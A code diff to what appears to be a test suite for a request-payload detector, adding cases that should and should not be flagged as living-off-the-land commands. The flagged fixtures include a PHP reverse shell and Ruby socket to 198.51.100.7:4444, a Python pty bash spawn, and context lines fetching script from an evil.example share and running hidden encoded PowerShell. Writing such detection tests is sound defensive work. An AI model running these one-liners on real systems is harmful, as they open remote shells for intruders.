@@ -673,6 +673,11 @@ const LIVING_OFF_THE_LAND: Case[] = [
   ["query", "c=" + encodeURIComponent("cscript //E:jscript \\\\evil.example\\share\\a.txt")],
   ["query", "c=" + encodeURIComponent("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA")],
   ["header:x-command", "\"pwsh.exe\" -WindowStyle Hidden -File run.ps1"],
+  // Interpreters given a one-line program that opens a shell or a socket.
+  ["query", "cmd=" + encodeURIComponent("python -c \"import pty;pty.spawn('/bin/bash')\"")],
+  ["body:form", "c=" + encodeURIComponent("ruby -rsocket -e 'c=TCPSocket.new(\"198.51.100.7\",4444)'")],
+  ["body:json", JSON.stringify({ cmd: "php -r '$s=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3\");'" })],
+  ["query", "x=" + encodeURIComponent("awk 'BEGIN {system(\"id\")}'")],
 ];
 const NOT_LIVING_OFF_THE_LAND: Case[] = [
   // The programs' everyday arguments, and sentences that name them.
@@ -686,6 +691,10 @@ const NOT_LIVING_OFF_THE_LAND: Case[] = [
   ["body:json", JSON.stringify({ text: "regsvr32 is used with /i:foo to install" })],
   ["body:json", JSON.stringify({ text: "Use certutil -urlcache to fetch it" })],
   ["body:json", JSON.stringify({ text: "certain people say the /transfer is done" })],
+  ["query", "q=" + encodeURIComponent("python3 -c \"import sys; print(sys.version)\"")],
+  ["query", "q=" + encodeURIComponent("awk -F: '{print $1}' users.txt")],
+  ["body:json", JSON.stringify({ text: "python is a language for system programming" })],
+  ["body:json", JSON.stringify({ text: "node is down, exec failed on the socket" })],
 ];
 
 describeVerdicts("%s payload verdicts", () => core, [
